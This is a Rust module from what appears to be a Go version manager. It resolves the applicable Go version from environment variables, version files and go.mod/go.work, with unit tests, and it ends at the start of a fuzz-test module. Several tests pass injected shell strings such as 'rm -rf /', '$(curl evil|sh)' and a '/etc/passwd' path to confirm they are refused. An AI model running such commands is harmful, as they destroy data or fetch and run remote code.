//! Which Go version applies in a directory: the one resolver shared by the
//! shims, the shell hooks, `gvmr env`, `gvmr current` and `gvmr exec`.
//!
//! Order:
//! 1. `GVMR_GO_VERSION`;
//! 2. the nearest `.go-version`, or `.tool-versions` with a `golang`/`go`
//!    entry, walking up from the directory (nearest wins; in one directory
//!    `.go-version` wins; an empty or comment-only `.go-version` is skipped
//!    as if absent);
//! 3. else the nearest `go.work` (unless `GOWORK=off`), else `go.mod`: a
//!    `toolchain goX.Y.Z` line (unless older than the `go` line) is exact,
//!    a `go X.Y[.Z]` line a minimum, as in Go;
//! 4. else the global default (`$GVMR_HOME/default`);
//! 5. else nothing.
//!
//! A pin (steps 1, 2 and 4) carries the nearest go.work/go.mod between the
//! directory and the pin ([`Selection::module`]); resolving it
//! ([`crate::toolchain::resolve`]) lets that module decide when the pin is
//! older than its `go` line, which Go would refuse under GOTOOLCHAIN=local.
//!
//! [`lookup`] also reports every file it read ([`Lookup::consulted`], for
//! the shell hooks to watch) and what it noticed on the way
//! ([`Lookup::notes`]: skipped files, ignored lines).

use crate::version::{GoVersion, Minimum, VersionRequest};
use std::ffi::OsString;
use std::fmt;
use std::fs::File;
use std::io::Read;
use std::path::{Path, PathBuf};

pub const GO_VERSION_FILE: &str = ".go-version";
pub const TOOL_VERSIONS_FILE: &str = ".tool-versions";
pub const DEFAULT_FILE: &str = "default";

/// Version files are tiny; anything larger is refused unread.
const MAX_FILE_BYTES: u64 = 64 * 1024;
/// go.mod files can be long (many requires); the directives are near the top.
const MAX_GO_MOD_BYTES: u64 = 4 * 1024 * 1024;
/// The UTF-8 byte-order mark some Windows editors put first.
const BOM: char = '\u{feff}';

/// What decided the version.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Source {
    Env,
    File(PathBuf),
    Default(PathBuf),
}

impl fmt::Display for Source {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Source::Env => f.write_str("GVMR_GO_VERSION"),
            Source::File(path) | Source::Default(path) => write!(f, "{}", path.display()),
        }
    }
}

/// What a source asks for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Requirement {
    /// A request as written in `.go-version` & co (exact, a line, an
    /// alias, `system`).
    Request(VersionRequest),
    /// `.tool-versions` naming several versions, as asdf reads them: the
    /// first installed one, else the first.
    FirstInstalled(Vec<VersionRequest>),
    /// go.mod's `go` line: this version or any newer one, as in Go.
    AtLeast(Minimum),
}

impl fmt::Display for Requirement {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Requirement::Request(r) => r.fmt(f),
            Requirement::FirstInstalled(list) => {
                let names: Vec<String> = list.iter().map(|r| r.to_string()).collect();
                f.write_str(&names.join(" "))
            }
            Requirement::AtLeast(min) => write!(f, ">= {min}"),
        }
    }
}

/// The nearest go.work or go.mod and what its directives ask for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Module {
    pub path: PathBuf,
    /// The `go` line.
    pub go: Option<Minimum>,
    /// The `toolchain` line, unless it is older than the `go` line (Go
    /// ignores it then) or says `default`.
    pub toolchain: Option<GoVersion>,
}

impl Module {
    /// What the module selects on its own: the toolchain line exactly, else
    /// the go line as a minimum; `None` when it has neither.
    pub fn requirement(&self) -> Option<Requirement> {
        match (self.toolchain, self.go) {
            (Some(toolchain), _) => Some(Requirement::Request(VersionRequest::Exact(toolchain))),
            (None, Some(min)) => Some(Requirement::AtLeast(min)),
            (None, None) => None,
        }
    }
}

/// A requirement and where it came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Selection {
    pub requirement: Requirement,
    pub source: Source,
    /// For a pin: the nearest go.work/go.mod with a `go` line between the
    /// directory and the pin (for `GVMR_GO_VERSION`: above the directory),
    /// whose minimum the pin must meet.
    pub module: Option<Module>,
    /// The global default, read when a `go` line is involved: a minimum
    /// prefers it when it is installed and new enough.
    pub default: Option<VersionRequest>,
}

/// What [`lookup`] found: the selection (or why there is none), every file
/// it read, and what it noticed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Lookup {
    pub result: Result<Option<Selection>, SelectError>,
    /// Every file read, in order, including files skipped because they were
    /// empty or held no Go entry: a change to any of them can change the
    /// selection. (Files that do not exist are not listed; see
    /// [`candidate_files`].)
    pub consulted: Vec<PathBuf>,
    /// Remarks for `gvmr current`, `env`, the hooks and `doctor` (never
    /// printed by the shim): skipped files, ignored lines.
    pub notes: Vec<String>,
}

/// A version file that cannot be understood.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SelectError {
    /// The file, or `GVMR_GO_VERSION`.
    pub origin: String,
    /// 1-based line, when one line is at fault.
    pub line: Option<usize>,
    pub problem: String,
}

impl fmt::Display for SelectError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.line {
            Some(line) => write!(f, "{}:{line}: {}", self.origin, self.problem),
            None => write!(f, "{}: {}", self.origin, self.problem),
        }
    }
}

impl std::error::Error for SelectError {}

fn describe_value(value: &str) -> String {
    let shown: String = value.chars().take(40).collect();
    if shown.len() < value.len() {
        format!("{shown:?}…")
    } else {
        format!("{shown:?}")
    }
}

/// Parses a version as written in a version file: a leading `v`
/// (`v1.22.5`, as some tools write it) is accepted.
fn request_in(value: &str, origin: &Path, line: usize) -> Result<VersionRequest, SelectError> {
    let unprefixed = match value.strip_prefix('v') {
        Some(rest) if rest.starts_with(|c: char| c.is_ascii_digit()) => rest,
        _ => value,
    };
    VersionRequest::parse(unprefixed).map_err(|_| SelectError {
        origin: origin.display().to_string(),
        line: Some(line),
        problem: format!(
            "{} is not a Go version (expected e.g. 1.22.5, go1.22.5, 1.22 or latest)",
            describe_value(value)
        ),
    })
}

/// Reads a text file of at most `limit` bytes, without a leading
/// byte-order mark. `Ok(None)` when it does not exist.
fn read_text(path: &Path, limit: u64) -> Result<Option<String>, SelectError> {
    let err = |problem: String| SelectError {
        origin: path.display().to_string(),
        line: None,
        problem,
    };
    let file = match File::open(path) {
        Ok(file) => file,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        // A directory or an unreadable file where a version file belongs.
        Err(e) => return Err(err(format!("cannot read it: {e}"))),
    };
    let mut bytes = Vec::new();
    file.take(limit + 1)
        .read_to_end(&mut bytes)
        .map_err(|e| err(format!("cannot read it: {e}")))?;
    if bytes.len() as u64 > limit {
        return Err(err(format!(
            "it is larger than {limit} bytes; a version file holds one version"
        )));
    }
    let text = String::from_utf8(bytes)
        .map_err(|_| err("it is not UTF-8 text; a version file holds one version".into()))?;
    Ok(Some(match text.strip_prefix(BOM) {
        Some(rest) => rest.to_string(),
        None => text,
    }))
}

/// What a `.go-version` (or the default file) holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VersionFile {
    /// The first version in the file.
    pub request: VersionRequest,
    /// Versions on later lines (1-based line, text): ignored, as goenv and
    /// mise use the first.
    pub ignored: Vec<(usize, String)>,
}

impl VersionFile {
    /// One note per ignored line.
    pub fn notes(&self, origin: &Path) -> Vec<String> {
        self.ignored
            .iter()
            .map(|(line, value)| {
                format!(
                    "{}:{line}: {} ignored: only the first version ({}) counts",
                    origin.display(),
                    describe_value(value),
                    self.request
                )
            })
            .collect()
    }
}

/// `.go-version` (and the default file), as goenv and mise write it: the
/// first version, with `#` comments (whole lines or after the version) and
/// blank lines ignored. `Ok(None)` for a file with no version (to be
/// skipped as if absent). Later versions are reported, not refused.
pub fn parse_go_version_file(
    text: &str,
    origin: &Path,
) -> Result<Option<VersionFile>, SelectError> {
    let mut found: Option<VersionFile> = None;
    for (i, line) in text.lines().enumerate() {
        let value = line.split('#').next().unwrap_or("").trim();
        if value.is_empty() {
            continue;
        }
        match &mut found {
            None => {
                found = Some(VersionFile {
                    request: request_in(value, origin, i + 1)?,
                    ignored: Vec::new(),
                });
            }
            Some(file) => file.ignored.push((i + 1, value.to_string())),
        }
    }
    Ok(found)
}

/// `.tool-versions` (asdf): `golang 1.22.5` or `go 1.22.5`; several
/// versions on the line are a fallback list. `Ok(None)` when the file has
/// no Go entry.
pub fn parse_tool_versions(text: &str, origin: &Path) -> Result<Option<Requirement>, SelectError> {
    for (i, line) in text.lines().enumerate() {
        let content = line.split('#').next().unwrap_or("");
        let mut words = content.split_whitespace();
        match words.next() {
            Some("golang" | "go") => {}
            _ => continue,
        }
        let requests: Vec<VersionRequest> = words
            .map(|value| request_in(value, origin, i + 1))
            .collect::<Result<_, _>>()?;
        return match requests.as_slice() {
            [] => Err(SelectError {
                origin: origin.display().to_string(),
                line: Some(i + 1),
                problem: "the go entry names no version (expected e.g. `golang 1.22.5`)".into(),
            }),
            [one] => Ok(Some(Requirement::Request(*one))),
            _ => Ok(Some(Requirement::FirstInstalled(requests))),
        };
    }
    Ok(None)
}

/// `go.mod`/`go.work`: the `go` and `toolchain` lines, as Go reads them (a
/// toolchain line older than the go line is ignored). The module's path is
/// `origin`.
pub fn parse_go_mod(text: &str, origin: &Path) -> Result<Module, SelectError> {
    let mut module = Module {
        path: origin.to_path_buf(),
        go: None,
        toolchain: None,
    };
    for (i, line) in text.lines().enumerate() {
        let content = line.split("//").next().unwrap_or("").trim();
        let mut words = content.split_whitespace();
        let (Some(directive), Some(value), None) = (words.next(), words.next(), words.next())
        else {
            continue;
        };
        let bad = |what: &str| SelectError {
            origin: origin.display().to_string(),
            line: Some(i + 1),
            problem: format!("{} is not {what}", describe_value(value)),
        };
        match directive {
            "toolchain" if value == "default" => {}
            "toolchain" if module.toolchain.is_none() => {
                let name = value
                    .strip_prefix("go")
                    .ok_or_else(|| bad("a toolchain name (expected e.g. go1.22.5)"))?;
                // Custom suffixes (go1.22.5+auto, go1.22.5-custom) name the release before them.
                let release = name.split(['+', '-']).next().unwrap_or(name);
                let version = GoVersion::parse(release)
                    .map_err(|_| bad("a toolchain name (expected e.g. go1.22.5)"))?;
                module.toolchain = Some(version);
            }
            "go" if module.go.is_none() => {
                let min = Minimum::parse(value)
                    .map_err(|_| bad("a Go version (expected e.g. 1.22 or 1.22.5)"))?;
                module.go = Some(min);
            }
            _ => {}
        }
    }
    if let (Some(toolchain), Some(go)) = (module.toolchain, module.go)
        && !go.admits(&toolchain)
    {
        module.toolchain = None;
    }
    Ok(module)
}

/// The environment the resolver reads; passed in so tests control it.
#[derive(Debug, Clone, Default)]
pub struct Inputs {
    /// `GVMR_GO_VERSION`.
    pub env_version: Option<String>,
    /// `GOWORK` (`off` disables go.work; a path names the file).
    pub gowork: Option<String>,
    /// The data directory, for the default file.
    pub home: Option<PathBuf>,
    /// `PATH`, where `system` finds the Go outside gvmr.
    pub path: Option<OsString>,
}

impl Inputs {
    pub fn from_env(home: Option<PathBuf>) -> Inputs {
        let var = |name| {
            std::env::var(name)
                .ok()
                .filter(|v: &String| !v.trim().is_empty())
        };
        Inputs {
            env_version: var("GVMR_GO_VERSION"),
            gowork: var("GOWORK"),
            home,
            path: std::env::var_os("PATH"),
        }
    }
}

/// Every file the resolver looked at or would look at from `dir`, for the
/// shell hooks and direnv to watch.
pub fn candidate_files(dir: &Path, home: Option<&Path>) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for ancestor in dir.ancestors() {
        for name in [GO_VERSION_FILE, TOOL_VERSIONS_FILE, "go.work", "go.mod"] {
            files.push(ancestor.join(name));
        }
    }
    if let Some(home) = home {
        files.push(home.join(DEFAULT_FILE));
    }
    files
}

/// Selects the version for `dir`. `Ok(None)` when nothing selects one.
pub fn select(dir: &Path, inputs: &Inputs) -> Result<Option<Selection>, SelectError> {
    lookup(dir, inputs).result
}

/// Selects the version for `dir`, recording the files read and the notes.
pub fn lookup(dir: &Path, inputs: &Inputs) -> Lookup {
    let mut walk = Walk {
        inputs,
        consulted: Vec::new(),
        notes: Vec::new(),
    };
    let result = walk.select(dir);
    Lookup {
        result,
        consulted: walk.consulted,
        notes: walk.notes,
    }
}

/// One lookup's state: what it has read and noticed so far.
struct Walk<'a> {
    inputs: &'a Inputs,
    consulted: Vec<PathBuf>,
    notes: Vec<String>,
}

/// A pin found by the walk, before its module and default are attached.
struct Pin {
    requirement: Requirement,
    source: Source,
}

impl Walk<'_> {
    fn read(&mut self, path: &Path, limit: u64) -> Result<Option<String>, SelectError> {
        let text = read_text(path, limit)?;
        if text.is_some() {
            self.consulted.push(path.to_path_buf());
        }
        Ok(text)
    }

    /// A `.go-version`-style file: `Ok(None)` when absent or empty (noted).
    fn read_version_file(&mut self, path: &Path) -> Result<Option<VersionRequest>, SelectError> {
        let Some(text) = self.read(path, MAX_FILE_BYTES)? else {
            return Ok(None);
        };
        match parse_go_version_file(&text, path)? {
            Some(file) => {
                self.notes.extend(file.notes(path));
                Ok(Some(file.request))
            }
            None => {
                self.notes.push(format!(
                    "{} holds no version (only blanks or comments); skipped as if absent",
                    path.display()
                ));
                Ok(None)
            }
        }
    }

    /// The module of the first of `paths` that has a `go` or `toolchain` line.
    fn module(&mut self, paths: [Option<PathBuf>; 2]) -> Result<Option<Module>, SelectError> {
        for path in paths.into_iter().flatten() {
            if let Some(text) = self.read(&path, MAX_GO_MOD_BYTES)? {
                let module = parse_go_mod(&text, &path)?;
                if module.requirement().is_some() {
                    return Ok(Some(module));
                }
            }
        }
        Ok(None)
    }

    fn default(&mut self) -> Result<Option<VersionRequest>, SelectError> {
        match &self.inputs.home {
            Some(home) => self.read_version_file(&home.join(DEFAULT_FILE)),
            None => Ok(None),
        }
    }

    fn select(&mut self, dir: &Path) -> Result<Option<Selection>, SelectError> {
        let inputs = self.inputs;
        let env_pin = match &inputs.env_version {
            Some(value) => Some(VersionRequest::parse(value).map_err(|_| SelectError {
                origin: "GVMR_GO_VERSION".into(),
                line: None,
                problem: format!(
                    "{} is not a Go version (expected e.g. 1.22.5, go1.22.5, 1.22 or latest)",
                    describe_value(value)
                ),
            })?),
            None => None,
        };

        let gowork_off = inputs.gowork.as_deref() == Some("off");
        let mut nearest_work: Option<PathBuf> = match inputs.gowork.as_deref() {
            Some(path) if path != "off" && Path::new(path).is_absolute() => {
                Some(PathBuf::from(path))
            }
            _ => None,
        };
        let mut nearest_mod: Option<PathBuf> = None;
        let mut pin = env_pin.map(|request| Pin {
            requirement: Requirement::Request(request),
            source: Source::Env,
        });
        for ancestor in dir.ancestors() {
            if pin.is_none() {
                pin = self.pin_in(ancestor)?;
            }
            if nearest_work.is_none() && !gowork_off {
                let work = ancestor.join("go.work");
                if work.is_file() {
                    nearest_work = Some(work);
                }
            }
            if nearest_mod.is_none() {
                let module = ancestor.join("go.mod");
                if module.is_file() {
                    nearest_mod = Some(module);
                }
            }
            // A file pin only answers to modules below it (and beside it);
            // without one, or with GVMR_GO_VERSION, the walk goes all the way up.
            if matches!(&pin, Some(p) if p.source != Source::Env) {
                break;
            }
        }
        let module = match self.module([nearest_work, nearest_mod]) {
            Ok(module) => module,
            // A pin does not depend on the module: a malformed one is only noted.
            Err(e) if pin.is_some() => {
                self.notes.push(format!(
                    "{e} (the pin is used without checking it against that file)"
                ));
                None
            }
            Err(e) => return Err(e),
        };

        let Some(pin) = pin else {
            // No pin: the module decides, else the default.
            if let Some(module) = module
                && let Some(requirement) = module.requirement()
            {
                let default = match requirement {
                    Requirement::AtLeast(_) => self.default()?,
                    _ => None,
                };
                return Ok(Some(Selection {
                    requirement,
                    source: Source::File(module.path),
                    module: None,
                    default,
                }));
            }
            let Some(home) = &inputs.home else {
                return Ok(None);
            };
            let path = home.join(DEFAULT_FILE);
            return Ok(self.default()?.map(|request| Selection {
                requirement: Requirement::Request(request),
                source: Source::Default(path),
                module: None,
                default: None,
            }));
        };
        let module = module.filter(|m| m.go.is_some());
        let default = if module.as_ref().is_some_and(|m| m.toolchain.is_none()) {
            self.default()?
        } else {
            None
        };
        Ok(Some(Selection {
            requirement: pin.requirement,
            source: pin.source,
            module,
            default,
        }))
    }

    /// A `.go-version` or `.tool-versions` pin in `dir` itself.
    fn pin_in(&mut self, dir: &Path) -> Result<Option<Pin>, SelectError> {
        let go_version = dir.join(GO_VERSION_FILE);
        if let Some(request) = self.read_version_file(&go_version)? {
            return Ok(Some(Pin {
                requirement: Requirement::Request(request),
                source: Source::File(go_version),
            }));
        }
        let tool_versions = dir.join(TOOL_VERSIONS_FILE);
        if let Some(text) = self.read(&tool_versions, MAX_FILE_BYTES)?
            && let Some(requirement) = parse_tool_versions(&text, &tool_versions)?
        {
            return Ok(Some(Pin {
                requirement,
                source: Source::File(tool_versions),
            }));
        }
        Ok(None)
    }
}

impl Requirement {
    /// The newest of `installed` this requirement accepts on its own (no
    /// default, no `system`): for what a recorded project last selected.
    pub fn pick_installed(&self, installed: &[GoVersion]) -> Option<GoVersion> {
        match self {
            Requirement::Request(request) => request.best_match(installed),
            Requirement::FirstInstalled(list) => list
                .iter()
                .find_map(|request| request.best_match(installed)),
            Requirement::AtLeast(min) => installed.iter().filter(|v| min.admits(v)).max().copied(),
        }
    }

    /// The version to install when nothing installed satisfies it, when that
    /// is one exact version.
    pub fn exact(&self) -> Option<GoVersion> {
        match self {
            Requirement::Request(VersionRequest::Exact(v)) => Some(*v),
            Requirement::AtLeast(min) => Some(min.release()),
            Requirement::FirstInstalled(list) => match list.first() {
                Some(VersionRequest::Exact(v)) => Some(*v),
                _ => None,
            },
            _ => None,
        }
    }

    /// What to pass to `gvmr install` to satisfy this requirement.
    pub fn install_argument(&self) -> String {
        match (self.exact(), self) {
            (Some(v), _) => v.number(),
            (None, Requirement::FirstInstalled(list)) => {
                list.first().map(|r| r.to_string()).unwrap_or_default()
            }
            (None, _) => self.to_string(),
        }
    }
}

/// The versions installed in `versions_dir`, newest first: the one scan,
/// shared by the shims and `gvmr`. Only directories named exactly as Go
/// names the version count; a missing directory holds none.
pub fn installed_versions(versions_dir: &Path) -> std::io::Result<Vec<GoVersion>> {
    let entries = match std::fs::read_dir(versions_dir) {
        Ok(entries) => entries,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => return Err(e),
    };
    let mut versions: Vec<GoVersion> = entries
        .filter_map(|entry| {
            let entry = entry.ok()?;
            let name = entry.file_name().into_string().ok()?;
            let version = GoVersion::parse(&name).ok()?;
            // The entry's type costs no extra system call; a link is followed.
            let is_dir = match entry.file_type().ok()? {
                kind if kind.is_symlink() => entry.path().is_dir(),
                kind => kind.is_dir(),
            };
            (version.to_string() == name && is_dir).then_some(version)
        })
        .collect();
    versions.sort_by(|a, b| b.cmp(a));
    Ok(versions)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    fn v(s: &str) -> GoVersion {
        GoVersion::parse(s).unwrap()
    }

    fn exact(s: &str) -> Requirement {
        Requirement::Request(VersionRequest::Exact(v(s)))
    }

    fn at_least(s: &str) -> Requirement {
        Requirement::AtLeast(Minimum::parse(s).unwrap())
    }

    struct Tree(tempfile_free::TempTree);

    /// A tiny temp-dir helper: the shim crate has no dependencies, even for tests.
    mod tempfile_free {
        use std::path::{Path, PathBuf};
        use std::sync::atomic::{AtomicUsize, Ordering};

        pub struct TempTree(pub PathBuf);

        impl TempTree {
            pub fn new() -> TempTree {
                static N: AtomicUsize = AtomicUsize::new(0);
                let dir = std::env::temp_dir().join(format!(
                    "gvmr-select-test-{}-{}",
                    std::process::id(),
                    N.fetch_add(1, Ordering::SeqCst)
                ));
                let _ = std::fs::remove_dir_all(&dir);
                std::fs::create_dir_all(&dir).unwrap();
                TempTree(dir)
            }

            pub fn path(&self) -> &Path {
                &self.0
            }
        }

        impl Drop for TempTree {
            fn drop(&mut self) {
                let _ = std::fs::remove_dir_all(&self.0);
            }
        }
    }

    impl Tree {
        fn new() -> Tree {
            Tree(tempfile_free::TempTree::new())
        }

        fn write(&self, rel: &str, text: &str) -> PathBuf {
            let path = self.0.path().join(rel);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(&path, text).unwrap();
            path
        }

        fn dir(&self, rel: &str) -> PathBuf {
            let path = self.0.path().join(rel);
            fs::create_dir_all(&path).unwrap();
            path
        }

        fn home(&self) -> PathBuf {
            self.dir("home")
        }
    }

    fn inputs(tree: &Tree) -> Inputs {
        Inputs {
            home: Some(tree.home()),
            ..Inputs::default()
        }
    }

    fn selected(dir: &Path, inputs: &Inputs) -> (Requirement, Source) {
        let s = select(dir, inputs).unwrap().expect("a selection");
        (s.requirement, s.source)
    }

    #[test]
    fn env_wins_over_everything() {
        let tree = Tree::new();
        tree.write("p/.go-version", "1.21.0\n");
        let mut inputs = inputs(&tree);
        inputs.env_version = Some("go1.22.5".into());
        assert_eq!(
            selected(&tree.dir("p"), &inputs),
            (exact("1.22.5"), Source::Env)
        );
        inputs.env_version = Some("1.22; rm -rf /".into());
        let err = select(&tree.dir("p"), &inputs).unwrap_err().to_string();
        assert!(
            err.starts_with("GVMR_GO_VERSION: \"1.22; rm -rf /\" is not a Go version"),
            "{err}"
        );
    }

    #[test]
    fn nearest_pin_wins_and_go_version_beats_tool_versions() {
        let tree = Tree::new();
        let outer = tree.write("a/.go-version", "1.21.0");
        let tools = tree.write(
            "a/b/.tool-versions",
            "nodejs 20.1.0\ngolang 1.22.5 # pinned\n",
        );
        tree.write("a/b/c/.tool-versions", "python 3.12\n");
        let inputs = inputs(&tree);
        assert_eq!(
            selected(&tree.dir("a/b/c/d"), &inputs),
            (exact("1.22.5"), Source::File(tools.clone()))
        );
        assert_eq!(
            selected(&tree.dir("a"), &inputs),
            (exact("1.21.0"), Source::File(outer))
        );
        let same_dir = tree.write("a/b/.go-version", "# the team's version\n\n  go1.20  \n");
        assert_eq!(
            selected(&tree.dir("a/b"), &inputs),
            (exact("1.20.0"), Source::File(same_dir))
        );
    }

    #[test]
    fn pins_beat_go_mod_even_when_go_mod_is_nearer() {
        let tree = Tree::new();
        let pin = tree.write(".go-version", "1.22");
        tree.write("proj/go.mod", "module x\n\ngo 1.21\n");
        let line = Requirement::Request(VersionRequest::Line {
            major: 1,
            minor: 22,
        });
        assert_eq!(
            selected(&tree.dir("proj"), &inputs(&tree)),
            (line, Source::File(pin))
        );
    }

    #[test]
    fn go_work_beats_go_mod_unless_gowork_is_off() {
        let tree = Tree::new();
        let work = tree.write("ws/go.work", "go 1.22.1\n\nuse ./m\n");
        let module = tree.write("ws/m/go.mod", "module m\ngo 1.21.3\n");
        let mut inputs = inputs(&tree);
        assert_eq!(
            selected(&tree.dir("ws/m/pkg"), &inputs),
            (at_least("1.22.1"), Source::File(work))
        );
        inputs.gowork = Some("off".into());
        assert_eq!(
            selected(&tree.dir("ws/m/pkg"), &inputs),
            (at_least("1.21.3"), Source::File(module))
        );
    }

    #[test]
    fn go_mod_toolchain_is_exact_and_go_line_is_a_minimum() {
        let o = Path::new("go.mod");
        let parse = |t: &str| parse_go_mod(t, o).unwrap().requirement();
        assert_eq!(
            parse("module x\ngo 1.21\ntoolchain go1.22.5\n"),
            Some(exact("1.22.5"))
        );
        assert_eq!(
            parse("module x\r\ngo 1.21 // comment\r\n"),
            Some(at_least("1.21"))
        );
        assert_eq!(parse("module x\ngo 1.20\n"), Some(at_least("1.20")));
        assert_eq!(
            parse("go 1.22\ntoolchain default\n"),
            Some(at_least("1.22"))
        );
        assert_eq!(parse("toolchain go1.23.1+auto\n"), Some(exact("1.23.1")));
        assert_eq!(
            parse("module x\nrequire (\n\tgo.example/go v1.0.0\n)\n"),
            None
        );
        assert_eq!(parse("// go 1.19\nmodule x\n"), None);
        let err = parse_go_mod("module x\n\ngo banana\n", o)
            .unwrap_err()
            .to_string();
        assert_eq!(
            err,
            "go.mod:3: \"banana\" is not a Go version (expected e.g. 1.22 or 1.22.5)"
        );
        let err = parse_go_mod("toolchain 1.22.5\n", o)
            .unwrap_err()
            .to_string();
        assert!(err.contains("not a toolchain name"), "{err}");
    }

    #[test]
    fn a_toolchain_line_older_than_the_go_line_is_ignored() {
        let o = Path::new("go.mod");
        let module = parse_go_mod("module x\ngo 1.22\ntoolchain go1.21.5\n", o).unwrap();
        assert_eq!(module.toolchain, None);
        assert_eq!(module.requirement(), Some(at_least("1.22")));
        // `go 1.22` admits go1.22rc1 as a toolchain line, as Go orders them.
        let module = parse_go_mod("go 1.22\ntoolchain go1.22rc1\n", o).unwrap();
        assert_eq!(module.requirement(), Some(exact("1.22rc1")));
    }

    #[test]
    fn install_arguments_name_one_version_when_they_can() {
        let line = Requirement::Request(VersionRequest::Line {
            major: 1,
            minor: 22,
        });
        assert_eq!(line.exact(), None);
        assert_eq!(line.install_argument(), "1.22");
        assert_eq!(at_least("1.20").install_argument(), "1.20");
        assert_eq!(at_least("1.22").install_argument(), "1.22.0");
        assert_eq!(at_least("1.21.6").exact(), Some(v("1.21.6")));
        let list = Requirement::FirstInstalled(vec![
            VersionRequest::parse("1.22").unwrap(),
            VersionRequest::parse("1.21.0").unwrap(),
        ]);
        assert_eq!(list.install_argument(), "1.22");
        assert_eq!(list.to_string(), "1.22 go1.21.0");
    }

    #[test]
    fn default_applies_last_and_none_when_nothing() {
        let tree = Tree::new();
        let inputs = inputs(&tree);
        assert_eq!(select(&tree.dir("x"), &inputs).unwrap(), None);
        let default = tree.write("home/default", "1.22.5\n");
        assert_eq!(
            selected(&tree.dir("x"), &inputs),
            (exact("1.22.5"), Source::Default(default))
        );
    }

    #[test]
    fn malformed_files_name_file_line_and_expectation() {
        let o = Path::new("/p/.go-version");
        let err = |t: &str| parse_go_version_file(t, o).unwrap_err().to_string();
        assert_eq!(
            err("../../etc/passwd"),
            "/p/.go-version:1: \"../../etc/passwd\" is not a Go version (expected e.g. 1.22.5, go1.22.5, 1.22 or latest)"
        );
        assert!(err("$(curl evil|sh)").contains("is not a Go version"));
        let tv = parse_tool_versions("golang\n", Path::new("/p/.tool-versions")).unwrap_err();
        assert_eq!(tv.line, Some(1));
    }

    #[test]
    fn go_version_files_as_goenv_and_mise_write_them() {
        let o = Path::new("/p/.go-version");
        let parse = |t: &str| parse_go_version_file(t, o).unwrap();
        assert_eq!(parse("\n# only a comment\n  \n"), None);
        assert_eq!(parse(""), None);
        let file = parse("1.22.5 # the team's\n1.21.0\n\nlatest\n").unwrap();
        assert_eq!(file.request, VersionRequest::parse("1.22.5").unwrap());
        assert_eq!(
            file.notes(o),
            [
                "/p/.go-version:2: \"1.21.0\" ignored: only the first version (go1.22.5) counts",
                "/p/.go-version:4: \"latest\" ignored: only the first version (go1.22.5) counts",
            ]
        );
        assert_eq!(
            parse("v1.22.5\n").unwrap().request,
            VersionRequest::parse("1.22.5").unwrap()
        );
        assert_eq!(parse("system\n").unwrap().request, VersionRequest::System);
        // One version per line still: inner words are refused, never run.
        assert!(parse_go_version_file("1.22.5 && reboot\n", o).is_err());
        assert!(parse_go_version_file("vv1.22\n", o).is_err());
    }

    #[test]
    fn lookup_lists_every_file_it_read_and_notes_skipped_ones() {
        let tree = Tree::new();
        let pin = tree.write("a/.go-version", "\u{feff}1.22.5\n");
        let blank = tree.write("a/b/.go-version", "# nothing yet\n");
        let tools = tree.write("a/b/.tool-versions", "nodejs 20\n");
        let module = tree.write("a/b/c/go.mod", "module m\n\ngo 1.21\n");
        let default = tree.write("home/default", "1.23.0\n");
        let found = lookup(&tree.dir("a/b/c/d"), &inputs(&tree));
        let selection = found.result.unwrap().unwrap();
        assert_eq!(selection.source, Source::File(pin.clone()));
        assert_eq!(selection.requirement, exact("1.22.5"));
        assert_eq!(
            selection.module.as_ref().map(|m| m.path.clone()),
            Some(module.clone())
        );
        assert_eq!(selection.default, VersionRequest::parse("1.23.0").ok());
        assert_eq!(
            found.consulted,
            [blank.clone(), tools, pin, module, default]
        );
        assert_eq!(
            found.notes,
            [format!(
                "{} holds no version (only blanks or comments); skipped as if absent",
                blank.display()
            )]
        );
        // Nothing selected: the files read are still reported.
        let lone = tree.write("z/.go-version", "\n");
        let found = lookup(&tree.dir("z"), &Inputs::default());
        assert_eq!(found.result, Ok(None));
        assert_eq!(found.consulted, [lone]);
    }

    #[test]
    fn tool_versions_lists_are_fallbacks_and_boms_are_dropped() {
        let o = Path::new("/p/.tool-versions");
        let parse = |t: &str| parse_tool_versions(t, o).unwrap();
        assert_eq!(
            parse("golang 1.22.5 1.21.0 system\n"),
            Some(Requirement::FirstInstalled(vec![
                VersionRequest::parse("1.22.5").unwrap(),
                VersionRequest::parse("1.21.0").unwrap(),
                VersionRequest::System,
            ]))
        );
        let tree = Tree::new();
        let tv = tree.write("p/.tool-versions", "\u{feff}golang 1.22.5\n");
        assert_eq!(
            selected(&tree.dir("p"), &inputs(&tree)),
            (exact("1.22.5"), Source::File(tv))
        );
    }

    #[test]
    fn binary_and_huge_files_are_refused_with_the_file_named() {
        let tree = Tree::new();
        let junk = tree.0.path().join("bin/.go-version");
        fs::create_dir_all(junk.parent().unwrap()).unwrap();
        fs::write(&junk, [0xff, 0xfe, 0x00, 0x01]).unwrap();
        let err = select(&tree.dir("bin"), &inputs(&tree)).unwrap_err();
        assert!(err.to_string().contains("not UTF-8"), "{err}");
        let huge = "1.22.5\n".repeat(20_000);
        tree.write("huge/.go-version", &huge);
        let err = select(&tree.dir("huge"), &inputs(&tree)).unwrap_err();
        assert!(err.to_string().contains("larger than"), "{err}");
        assert!(err.origin.ends_with("huge/.go-version"));
    }

    #[test]
    fn candidates_cover_every_level_and_the_default() {
        let files = candidate_files(Path::new("/a/b"), Some(Path::new("/h")));
        assert!(files.contains(&PathBuf::from("/a/b/.go-version")));
        assert!(files.contains(&PathBuf::from("/go.mod")));
        assert_eq!(files.last(), Some(&PathBuf::from("/h/default")));
        assert_eq!(files.len(), 13);
    }
}

/// Property-based fuzzing (proptest); `scripts/fuzz.sh` runs these far longer.
#[cfg(test)]
mod fuzz {
    use super::*;
    use proptest::prelude::*;

    /// Lines of the kinds version files and go.mod hold, and of kinds they
